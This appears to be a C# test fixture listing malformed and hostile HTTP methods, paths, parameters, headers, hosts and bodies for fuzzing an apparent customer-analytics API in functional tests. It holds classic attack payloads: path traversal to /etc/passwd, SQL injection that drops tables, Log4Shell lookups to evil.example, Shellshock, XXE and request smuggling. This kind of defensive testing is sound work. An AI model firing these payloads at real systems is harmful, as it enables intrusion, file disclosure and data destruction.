namespace C360.FunctionalTests.Hostile;

/// <summary>What hostile requests are made of. Nothing in here is a word of ours: what an answer shows of the inside it does not have from the request.</summary>
internal static class HostileTexts
{
    // A text a line would be four hundred lines.
    // csharpier-ignore-start

    public static readonly string[] Methods =
    [
        "GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "MKCOL", "get", "PURGE", "X", "G3T",
        "QUERY", "LONGMETHODLONGMETHODLONGMETHOD", "G,T", "GE\tT", "",
    ];

    public static readonly string[] Routes =
    [
        "/marketing/customer-health-overview", "/marketing/churn-risk-customers", "/marketing/loyalty-program-metrics",
        "/marketing/customer-segmentation", "/product/digital-engagement-analysis", "/product/cross-sell-opportunities",
        "/product/category-insights", "/finance/customer-lifetime-value", "/finance/revenue-analysis", "/finance/rfm-segmentation",
        "/finance/profitability-metrics", "/customer-success/support-insights", "/customer-success/lifecycle-analysis",
        "/analytics/customer-profiles", "/analytics/customer-profiles/C1", "/analytics/customer-profiles/", "/health", "/health/live",
        "/health/ready", "/admin/refresh-data", "/admin/refreshes/0", "/admin/metrics", "/docs", "/docs/index.html", "/dashboard/app.js", "/redoc/index.html",
        "/openapi.json",
    ];

    public static readonly string[] Targets =
    [
        "/", "*", "//", "///", "/./", "/../", "/..", "/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2fetc%2fpasswd", "/%00", "/a%00b", "/%",
        "/%zz", "/%u0041", "/docs/../../etc/passwd", "/docs/..%2f..%2fweb.config", "/docs/%2e%2e/appsettings.json",
        "/redoc/....//....//etc/hosts", "/.env", "/.git/config", "http://localhost/health",
        "http://evil.example/finance/revenue-analysis", "https://[::1/", "evil.example:443", "no-slash", "/\\..\\..\\windows", "/\u00e9",
        "/%C0%AE%C0%AE/", "/%ED%A0%80", "/%F4%90%80%80", "/finance/revenue-analysis/.", "/FINANCE/Revenue-Analysis",
        "/finance%2Frevenue-analysis", "/finance/revenue-analysis;jsessionid=1", "/finance/revenue-analysis#top", "/{customer_id}",
        "/index.php", "/analytics/customer-profiles/%2e", "/analytics/customer-profiles/..", "/analytics/customer-profiles/%00",
        "/analytics/customer-profiles/%FF", "/analytics/customer-profiles/%2F", "/analytics/customer-profiles/a%2Fb/../c",
        "/analytics/customer-profiles//", "/analytics/customer-profiles/%20", "/admin/refreshes/..%2f..%2fcurrent",
        "/health/../admin/metrics", "/docs/..;/admin/metrics", "/health/%2e%2e/admin/metrics",
    ];

    public static readonly string[] Segments =
    [
        "C1", ".", "..", "%2e", "%2e%2e", "%2E%2e%2f", "..%5c", "%00", "%", "%2", "%zz", "%25", "%252e%252e", "%C0%AF", "%E0%80%AF",
        "%FE%FF", "%F0%9F%98%80", "%0d%0aSet-Cookie:x", "%3Cscript%3E", "%22", "%27", "%60", "1%20OR%201=1",
        "';DROP%20TABLE%20secrets;--", "${jndi:ldap://x}", "{{7*7}}", "%7B0%7D", "NUL", "con", "etc%2Fpasswd", "C:%5Cwindows", "~", "*",
        "(", "a;b", "a,b", "-1", "99999999999999999999", "null", "true", "\u00ff\u00fe",
    ];

    public static readonly string[] Parameters =
    [
        "limit", "LIMIT", "min_lifetime_value", "by", "customer_status", "customer_segment", "loyalty_tier", "min_health_score",
        "max_health_score", "min_lifetime_value", "max_lifetime_value", "churn_risk_only", "has_app_usage", "force_refresh", "_",
        "limit[]", "limit[$gt]", "limits", "", "%00", "a.b", "__proto__", "api_key", "limit%20", "l%69mit", "%6Cimit", "order_by", "x'--",
    ];

    public static readonly string[] Values =
    [
        "1", "0", "-1", "1000", "1001", "1.5", "1e3", "NaN", "Infinity", "0x10", "+5", "%2B5", "1%2C5", "2147483648",
        "999999999999999999999999", "true", "TRUE", "yes", "null", "undefined", "", "%00", "%", "%zz", "%C0%80", "%ED%A0%80",
        "%F0%9F%98%80", "Active", "At%20Risk", "loyalty_tier", "VALUE_SEGMENT", "'", "''", "%27%20OR%20%271%27=%271",
        "1;DROP%20TABLE%20secrets", "1%20UNION%20SELECT%20password%20FROM%20secrets", "%27)%3B%20ATTACH%20%27x%27--",
        "read_csv(%27/etc/passwd%27)", "$limit", ":limit", "?", "../../../etc/passwd", "..%2f..%2f", "/etc/passwd", "file:///etc/passwd",
        "http://evil.example/", "%3Cscript%3Ealert(1)%3C/script%3E", "{{7*7}}", "${7*7}", "%0d%0aX-Evil:%201", "%0a", "%09", "%20",
        "\u00e9", "\u0081", "1&limit=2", "1;limit=2", "a=b=c", "[]", "{}", "%5B1%5D", "%7B%22a%22:1%7D", "%u0041", "1%00", "%EF%BB%BF1",
        "%D9%A1",
    ];

    public static readonly string[] HeaderNames =
    [
        "Accept", "Accept", "Accept", "Accept-Encoding", "Accept-Language", "If-None-Match", "If-Modified-Since", "If-Match", "Range",
        "X-HTTP-Method-Override", "X-Original-URL", "X-Rewrite-URL", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto",
        "Forwarded", "Origin", "Access-Control-Request-Method", "Access-Control-Request-Headers", "Content-Type", "Content-Encoding",
        "Cookie", "Authorization", "X-API-Key", "Expect", "Upgrade", "Connection", "Via", "TE", "Trailer", "traceparent", "tracestate",
        "baggage", "Referer", "User-Agent", "Cache-Control", "Max-Forwards", "Date", "Content-Length", "Transfer-Encoding", "Host",
        "X Bad", "X-Bad ", ":authority", "",
    ];

    public static readonly string[] HeaderValues =
    [
        "", "*/*", "text/html", "application/json", "application/json;q=0", "application/json;q=nonsense", ";;;", ",,,,", "*", "\"x\"",
        "W/\"x\"", "\"unclosed", "bytes=0-1", "bytes=-1", "bytes=9-1,0-,x", "DELETE", "/admin/metrics", "127.0.0.1",
        "::1, 10.0.0.1, unknown", "evil.example", "for=\"[::1]\";proto=x", "null", "https://evil.example", "POST", "gzip, br;q=x",
        "identity;q=0", "text/plain; charset=utf-7", "a=b; a=c; \u0001", "Bearer ", "Bearer x y", "Basic OnA=", "Negotiate",
        "100-continue", "200-ok", "websocket", "h2c", "close, upgrade", "keep-alive", "trailers",
        "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01", "00-zz-zz-zz", "Mon, 32 Foo 2026 25:61:61 GMT", "-1",
        "18446744073709551616", "chunked", "gzip, chunked", "identity", "' OR 1=1 --", "() { :; }; echo x",
        "${jndi:ldap://evil.example/a}", "\u00ff\u00fe", "a\tb", "a\rb", "a\nb", "x\0y",
    ];

    public static readonly string[] Hosts =
    [
        "", "evil.example", "localhost:99999", "local host", "[::1", "[::1]:80", "a@b", "localhost, evil.example", "localhost/x",
        "\u00e9", "..", "*", "localhost\r\nHost: evil.example",
    ];

    public static readonly string[] Bodies =
    [
        "", "{}", "{\"force_refresh\":true}", "{\"a\":", "[[[[[[[[[[", "null", "force_refresh=true",
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM " + "\"file:///etc/passwd\">]><a>&b;</a>",
        "--x\r\nContent-Disposition: form-data; name=\"a\"; filename=\"../../x\"\r\n\r\n\0\r\n--x--", "\0\0\0\0",
        "GET /admin/metrics HTTP/1.1\r\nHost: x\r\n\r\n", "0\r\n\r\nGET /admin/metrics HTTP/1.1\r\n\r\n",
    ];

    /// <summary>Lengths that are none or not those of the body; never more than comes without being too large: nobody would wait for the rest.</summary>
    public static readonly string[] Lengths =
    [
        "Content-Length: -1", "Content-Length: x", "Content-Length: 0", "Content-Length: 0\r\nContent-Length: 5",
        "Content-Length: 18446744073709551616", "Content-Length: 9999999999", "Content-Length: 0\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: gzip", "Transfer-Encoding: chunked, identity", "Transfer-Encoding : chunked", "Content-Length : 0",
        "Content-Length:",
    ];
    // csharpier-ignore-end
}
